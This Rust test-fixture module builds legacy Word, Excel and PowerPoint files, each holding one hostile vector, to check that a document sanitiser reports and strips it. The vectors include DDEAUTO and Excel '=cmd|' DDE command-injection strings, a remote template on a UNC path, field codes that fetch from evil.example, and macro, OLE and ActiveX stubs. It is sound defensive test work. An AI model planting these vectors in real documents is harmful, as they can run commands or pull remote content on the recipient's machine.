//! Every vector of the row of Word, Excel and PowerPoint 97–2003 of the table
//! of treatments: a file with it, what the report must name, and what must not
//! be in the output. Each says ①㈱髙﨑, which must still be there afterwards.

use sekimori::sanitise::{Kind, What};

use super::doc::{DELETED, Document, HIDDEN, document};
use super::ppt::{Slide, Talk, atom, container};
use super::xls::{Book, Record, Sheet, plain, shared, sheet, string, strings};
use super::{Seed, Stream, stream, utf16};

/// One vector.
#[derive(Clone, Debug)]
pub struct Vector {
    /// The untreated file.
    pub seed: Seed,
    /// What the report must name.
    pub what: What,
    /// Words that may not cross.
    pub gone: &'static str,
}

/// Words that stand in every file.
pub const WORDS: &str = "①㈱髙﨑";

/// All vectors.
#[must_use]
pub fn all() -> Vec<Vector> {
    [docs(), books(), talks()].concat()
}

fn vector(name: &str, kind: Kind, bytes: Vec<u8>, what: What, gone: &'static str) -> Vector {
    Vector {
        seed: Seed::new(name, kind, bytes),
        what,
        gone,
    }
}

fn docs() -> Vec<Vector> {
    let field = |name: &str, code: &str, what, gone| {
        let text = format!("{WORDS}\u{13} {code} \u{14}結果\u{15}");
        vector(name, Kind::Doc, document(&text).file(), what, gone)
    };
    let beside = |name: &str, path: &str, what, gone| {
        let file = Document {
            beside: vec![object(path)],
            ..document(WORDS)
        };
        vector(name, Kind::Doc, file.file(), what, gone)
    };
    let around = |name: &str, marks: [char; 2], what, gone: &'static str| {
        let text = format!("{WORDS}{}{gone}{}", marks[0], marks[1]);
        vector(name, Kind::Doc, document(&text).file(), what, gone)
    };
    let template = Document {
        template: "\\\\192.0.2.1\\share\\evil.dot".to_owned(),
        ..document(WORDS)
    };
    let commands = Document {
        commands: vec![0xFF, 0x11, 1, 0, 0, 0, 0x40],
        ..document(WORDS)
    };
    vec![
        field(
            "dde.doc",
            "DDEAUTO c:\\\\calc.exe \"/k evil\"",
            What::Dde,
            "evil",
        ),
        field(
            "nested.doc",
            "\u{13} QUOTE 68 \u{14}D\u{15}DE evil",
            What::FieldCode,
            "evil",
        ),
        field(
            "link.doc",
            "LINK Excel.Sheet.8 \"\\\\\\\\evil\\\\a.xls\"",
            What::ExternalLink,
            "evil",
        ),
        field(
            "include.doc",
            "INCLUDETEXT \"http://evil.example/a\"",
            What::ExternalLink,
            "evil",
        ),
        field(
            "picture.doc",
            "INCLUDEPICTURE \"http://evil.example/a.png\"",
            What::ExternalImage,
            "evil",
        ),
        field(
            "button.doc",
            "MACROBUTTON evil 押す",
            What::FieldCode,
            "evil",
        ),
        field(
            "hyperlink.doc",
            "HYPERLINK \"file://evil/a\"",
            What::Link,
            "evil",
        ),
        field("embed.doc", "EMBED Package evil", What::OleObject, "evil"),
        field("control.doc", "CONTROL evil.1 \\s", What::Activex, "evil"),
        field(
            "database.doc",
            "DATABASE \\d \"evil.mdb\"",
            What::DataConnection,
            "evil",
        ),
        beside(
            "vba.doc",
            "Macros/VBA/ThisDocument",
            What::VbaProject,
            "evil",
        ),
        beside(
            "object.doc",
            "ObjectPool/_1/\u{1}Ole10Native",
            What::OleObject,
            "evil",
        ),
        beside(
            "ocx.doc",
            "ObjectPool/_1/\u{3}OCXNAME",
            What::Activex,
            "evil",
        ),
        beside(
            "signature.doc",
            "_xmlsignatures/a",
            What::DigitalSignature,
            "evil",
        ),
        beside("data.doc", "MsoDataStore/a/Item", What::CustomXml, "evil"),
        beside(
            "summary.doc",
            "\u{5}SummaryInformation",
            What::Metadata,
            "evil",
        ),
        beside("unknown.doc", "evil", What::UnknownPart, "evil"),
        vector(
            "template.doc",
            Kind::Doc,
            template.file(),
            What::RemoteTemplate,
            "evil",
        ),
        vector(
            "commands.doc",
            Kind::Doc,
            commands.file(),
            What::CustomUi,
            "\u{1}",
        ),
        around("hidden.doc", HIDDEN, What::HiddenContent, "隠した文字"),
        around("deleted.doc", DELETED, What::Revision, "消した文字"),
    ]
}

fn object(path: &str) -> Stream {
    stream(path, *b"evil")
}

fn book() -> Book {
    Book {
        globals: vec![plain(), strings(&[WORDS, "=cmd|' /C evil'!A0"])],
        sheets: vec![sheet("表", vec![shared(0, 0, 0)])],
        beside: Vec::new(),
    }
}

fn books() -> Vec<Vector> {
    let global = |name: &str, record: Record, what, gone| {
        let mut file = book();
        file.globals.push(record);
        vector(name, Kind::Xls, file.file(), what, gone)
    };
    let in_sheet = |name: &str, record: Record, what, gone| {
        let mut file = book();
        file.sheets[0].records.push(record);
        vector(name, Kind::Xls, file.file(), what, gone)
    };
    let beside = |name: &str, path: &str, what| {
        let mut file = book();
        file.beside.push(object(path));
        vector(name, Kind::Xls, file.file(), what, "evil")
    };
    let supporting = |path: &str| (0x01AE, [&[1, 0][..], &string(path)].concat());
    let mut macros = book();
    macros.sheets.push(Sheet {
        kind: 1,
        ..sheet("M", vec![shared(0, 0, 1)])
    });
    let mut link = vec![0; 40];
    link.extend(utf16("http://evil.example/"));
    vec![
        vector("xlm.xls", Kind::Xls, macros.file(), What::XlmMacro, "cmd"),
        global("dde.xls", supporting("evil\u{3}topic"), What::Dde, "evil"),
        global(
            "external.xls",
            supporting("\u{1}\u{1}@evil\u{3}a.xls"),
            What::ExternalLink,
            "evil",
        ),
        global(
            "connection.xls",
            (0x0876, b"evil".to_vec()),
            What::DataConnection,
            "evil",
        ),
        in_sheet("hyperlink.xls", (0x01B8, link), What::Link, "evil"),
        in_sheet(
            "printer.xls",
            (0x004D, b"evil".to_vec()),
            What::PrinterSettings,
            "evil",
        ),
        in_sheet(
            "query.xls",
            (0x01AD, b"evil".to_vec()),
            What::DataConnection,
            "evil",
        ),
        in_sheet(
            "formula.xls",
            shared(1, 0, 1),
            What::FormulaPrefix,
            "\n=cmd",
        ),
        beside("vba.xls", "_VBA_PROJECT_CUR/VBA/a", What::VbaProject),
        beside("object.xls", "MBD00000001/Package", What::OleObject),
        beside("controls.xls", "Ctls", What::Activex),
    ]
}

fn talk() -> Talk {
    Talk {
        slides: vec![Slide {
            title: WORDS,
            ..Slide::default()
        }],
        ..Talk::default()
    }
}

fn talks() -> Vec<Vector> {
    let inside = |name: &str, records: Vec<u8>, what| {
        let file = Talk {
            document: records,
            ..talk()
        };
        vector(name, Kind::Ppt, file.file(), what, "evil")
    };
    let listed = |kind: u16| {
        container(
            0x0409,
            0,
            &[container(kind, 0, &[atom(0x0FBA, 0, &utf16("evil"))])],
        )
    };
    let mut project = vec![0; 12];
    project[4] = 1;
    let mut acting = talk();
    acting.slides[0].shape = container(0x0FF2, 0, &[atom(0x0FBA, 0, &utf16("evil"))]);
    vec![
        inside(
            "vba.ppt",
            container(
                0x07D0,
                0,
                &[container(0x03FF, 1, &[atom(0x0400, 0, &project)])],
            ),
            What::VbaProject,
        ),
        inside("object.ppt", listed(0x0FCC), What::OleObject),
        inside("linked.ppt", listed(0x0FCE), What::ExternalLink),
        inside("control.ppt", listed(0x0FEE), What::Activex),
        inside("hyperlink.ppt", listed(0x0FD7), What::Link),
        inside("sound.ppt", listed(0x100D), What::RichMedia),
        vector("acting.ppt", Kind::Ppt, acting.file(), What::Link, "evil"),
    ]
}

/// One of each kind that needs a password.
#[must_use]
pub fn locked() -> Vec<Seed> {
    let letter = Document {
        flags: 0x0100,
        ..document(WORDS)
    };
    let mut book = book();
    book.globals.insert(0, (0x002F, vec![1, 0, 1, 0, 1, 0]));
    let talk = Talk {
        locked: true,
        ..talk()
    };
    vec![
        Seed::new("locked.doc", Kind::Doc, letter.file()),
        Seed::new("locked.xls", Kind::Xls, book.file()),
        Seed::new("locked.ppt", Kind::Ppt, talk.file()),
    ]
}
